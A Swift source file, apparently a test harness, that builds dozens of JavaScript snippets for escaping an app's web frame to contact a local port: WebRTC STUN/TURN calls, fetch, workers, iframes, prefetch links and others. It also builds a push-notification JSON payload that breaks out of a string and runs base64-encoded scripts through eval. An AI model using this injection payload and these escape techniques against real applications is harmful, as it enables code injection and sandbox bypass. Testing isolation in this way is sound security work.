import Foundation

/// Scripts that try to reach a port of this machine from the app's frame.
struct FrameEscapes {
    let port: Int

    private var url: String { "http://127.0.0.1:\(port)/" }

    /// WebRTC, which asks a server for its address: a packet, and a connection.
    private var call: String {
        """
        p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:\(port)'},\
        {urls:'turn:127.0.0.1:\(port)?transport=tcp',username:'a',credential:'b'}]});\
        p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))
        """
    }

    /// A document with the call, as an attribute of a frame.
    private var document: String {
        "<script>\(call)</script>".replacing("'", with: "&quot;")
    }

    /// Those that leave the page where it is; all of them can run in one statement.
    var staying: [String] {
        [
            call, call.replacing("RTCPeer", with: "webkitRTCPeer"),
            "f=document.createElement('iframe');document.body.append(f);w=f.contentWindow;"
                + call.replacing("new RTC", with: "new w.RTC"),
            "f=document.createElement('iframe');f.src='\(url)';document.body.append(f)",
            "document.body.insertAdjacentHTML('beforeend',\"<iframe src='data:text/html,\(document)'></iframe>\")",
            "f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob([\"\(document)\"],{type:'text/html'}));document.body.append(f)",
            "fetch('\(url)',{mode:'no-cors'})", "navigator.sendBeacon('\(url)','x')",
            "new Image().src='\(url)'", "new WebSocket('ws://127.0.0.1:\(port)/')",
            "new WebTransport('https://127.0.0.1:\(port)/')", "new EventSource('\(url)')",
            "x=new XMLHttpRequest();x.open('GET','\(url)');x.send()", "fetchLater('\(url)')",
            "top.location='\(url)'", "window.open('\(url)')",
            "f=document.createElement('form');f.action='\(url)';f.method='post';document.body.append(f);f.submit()",
            "new Worker('\(url)')", "new SharedWorker('\(url)')",
            "new Worker(URL.createObjectURL(new Blob([\"fetch('\(url)')\"])))",
            "import('\(url)x.js')", "navigator.serviceWorker.register('\(url)')",
            "new AudioContext().audioWorklet.addModule('\(url)')",
            "caches.open('x').then(c=>c.add('\(url)'))",
            "s=document.createElement('script');s.src='\(url)';document.body.append(s)",
            """
            for(r of ['prefetch','preload','preconnect','dns-prefetch','modulepreload','stylesheet','manifest','icon',\
            'prerender','compression-dictionary']){l=document.createElement('link');l.rel=r;l.as='script';\
            l.href='\(url)'+r;document.head.append(l)}
            """,
            """
            s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({prefetch:\
            [{source:'list',urls:['\(url)']}],prerender:[{source:'list',urls:['\(url)']}]});document.head.append(s)
            """,
            "o=document.createElement('object');o.data='\(url)';document.body.append(o)",
            "o=document.createElement('embed');o.src='\(url)';document.body.append(o)",
            "a=document.createElement('a');a.href='#';a.ping='\(url)';document.body.append(a);a.click()",
            "s=document.createElement('style');s.textContent='@import url(\(url));body{background:url(\(url)b)}';document.head.append(s)",
            "v=document.createElement('video');v.src='\(url)';document.body.append(v);v.play()",
            "document.body.insertAdjacentHTML('beforeend','<video poster=\(url)></video><svg><image href=\(url) /></svg><input type=image src=\(url)>')",
            "i=document.createElement('img');i.attributionSrc='\(url)';document.body.append(i)",
            "sharedStorage.worklet.addModule('\(url)')",
            "new PaymentRequest([{supportedMethods:'\(url)'}],{total:{label:'x',amount:{currency:'USD',value:'1'}}}).show()",
            "f=document.createElement('fencedframe');f.config=new FencedFrameConfig('\(url)');document.body.append(f)",
        ]
    }

    /// Those that take the page away, or may end its process; each runs alone.
    var leaving: [String] {
        [
            "location='\(url)'",
            "document.head.insertAdjacentHTML('beforeend','<meta http-equiv=refresh content=\"0;url=\(url)\">')",
            "a=document.createElement('a');a.href='\(url)';document.body.append(a);a.click()",
            "a=document.createElement('a');a.href='\(url)';a.download='x';document.body.append(a);a.click()",
            "f=document.createElement('iframe');f.srcdoc=\"<script>\(call)</script>\";document.body.append(f)",
            "f=document.createElement('iframe');f.src=\"javascript:\(call)\";document.body.append(f)",
            "d=document.createElement('div');document.body.append(d);s=d.attachShadow({mode:'closed'});f=document.createElement('iframe');f.srcdoc=\"<script>\(call)</script>\";s.append(f)",
            "document.body.innerHTML=\"<iframe srcdoc='\(document)'></iframe>\"",
            "document.open();document.write(\"<script>\(call)</script>\");document.close()",
            "document.open();document.write(\"<iframe srcdoc='\(document)'></iframe>\");document.close()",
            "document.open();document.write(\"<div><template shadowrootmode=closed><iframe srcdoc='\(document)'></iframe></template></div>\");document.close()",
            "location='javascript:'+encodeURIComponent(\"\(call)\")",
        ]
    }

    /// Returns a payload whose session closes the string of the statement and runs scripts, one after another.
    static func payload(_ scripts: [String], alert: String = "attack") -> String {
        let lines = scripts.map {
            "try{eval(atob(\"\(Data($0.utf8).base64EncodedString())\"))}catch{}"
        }
        let script = Data(lines.joined(separator: "\n").utf8).base64EncodedString()
        return
            #"{"aps":{"alert":"\#(alert)"},"note":"session = 42\");eval(atob(\"\#(script)\"));(\";"}"#
    }
}
